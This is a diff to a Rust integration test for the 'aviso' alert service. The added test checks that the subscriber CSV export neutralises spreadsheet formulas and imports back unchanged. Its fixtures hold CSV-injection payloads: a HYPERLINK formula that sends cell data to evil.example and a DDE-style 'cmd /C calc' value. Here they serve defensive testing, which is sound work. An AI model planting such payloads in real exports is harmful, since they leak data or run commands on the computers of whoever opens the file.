@@ -138,6 +138,7 @@ webhook = { per_second = 500.0, burst = 100 }
 
 /// Starts `aviso serve --config <dir>/site.toml` and waits for its address.
 async fn start_serve(dir: &Path, config: &str) -> Serve {
+    aviso::notify::channels::install_crypto_provider();
     let path = dir.join("site.toml");
     std::fs::write(&path, config).unwrap();
     let mut child = Command::new(env!("CARGO_BIN_EXE_aviso"))
@@ -569,5 +570,104 @@ async fn webhooks_follow_no_redirect_elsewhere_send_no_referer_cap_the_reply_and
     eprintln!(
         "webhooks: paths {paths:?}; huge reply cut after {} kB written",
         written / 1024
+    );
+}
+
+// --- finding 8: the CSV export, feed URLs, delivery reports, OGC datetime ------------------------
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_subscriber_export_escapes_formulas_and_imports_back_unchanged() {
+    let dir = tempfile::tempdir().unwrap();
+    let (feed_base, _) = feed_server().await;
+    let cfg = site_config(
+        &dir.path().join("data"),
+        &format!("{feed_base}/rsmc/none.json"),
+        "",
+    );
+    let svc = start_serve(dir.path(), &cfg).await;
+    let people = [
+        json!({"id": "formula-link", "name": "=HYPERLINK(\"http://evil.example/x?d=\"&A1,\"Beira\")",
+               "phones": ["+258845550101"], "provinces": ["MZ09"]}),
+        json!({"id": "formula-at", "name": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "emails": ["-ops@ingd.example.org"], "phones": ["+258845550102", "+258845550103"],
+               "provinces": ["MZ11"]}),
+        json!({"id": "formula-minus", "name": "-2+3", "emails": ["pf@ingd.example.org"],
+               "districts": ["MZ1103"]}),
+    ];
+    for p in &people {
+        let (s, v) = svc
+            .api
+            .post_json("/api/admin/subscribers", Some(EDITOR), p)
+            .await;
+        assert_eq!(s, 201, "{v}");
+    }
+    let (s, export) = svc
+        .api
+        .get("/api/admin/subscribers.csv", Some(VIEWER))
+        .await;
+    assert_eq!(s, 200);
+    let export = export.as_str().unwrap().to_string();
+    // Read back as a spreadsheet would split it: no cell may start a formula.
+    let mut rdr = csv::Reader::from_reader(export.as_bytes());
+    let headers = rdr.headers().unwrap().clone();
+    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 3);
+    for r in &rows {
+        for cell in r {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a live formula cell {cell:?} in\n{export}"
+            );
+        }
+    }
+    let row = |id: &str| rows.iter().find(|r| &r[col("id")] == id).unwrap();
+    assert_eq!(
+        &row("formula-link")[col("name")],
+        "'=HYPERLINK(\"http://evil.example/x?d=\"&A1,\"Beira\")"
+    );
+    assert_eq!(&row("formula-link")[col("phones")], "'+258845550101");
+    assert_eq!(
+        &row("formula-at")[col("phones")],
+        "'+258845550102;+258845550103"
+    );
+    assert_eq!(&row("formula-at")[col("emails")], "'-ops@ingd.example.org");
+    assert_eq!(&row("formula-minus")[col("name")], "'-2+3");
+
+    // The export imports back: every subscriber as it was, numbers in E.164.
+    let (s, v, _) = svc
+        .api
+        .send(
+            reqwest::Method::POST,
+            "/api/admin/subscribers.csv",
+            Some(EDITOR),
+            Some("text/csv"),
+            export.clone(),
+        )
+        .await;
+    assert_eq!((s, v["updated"].as_u64()), (200, Some(3)), "{v}");
+    for p in &people {
+        let id = p["id"].as_str().unwrap();
+        let (s, v) = svc
+            .api
+            .get(&format!("/api/admin/subscribers/{id}"), Some(VIEWER))
+            .await;
+        assert_eq!(s, 200, "{v}");
+        let got = &v;
+        assert_eq!(got["name"], p["name"], "{id}");
+        for k in ["phones", "emails"] {
+            if let Some(want) = p.get(k) {
+                assert_eq!(&got[k], want, "{id} {k}");
+            }
+        }
+    }
+    let (_, again) = svc
+        .api
+        .get("/api/admin/subscribers.csv", Some(VIEWER))
+        .await;
+    assert_eq!(
+        again.as_str().unwrap(),
+        export,
+        "export, import, export: the same file"
     );
 }
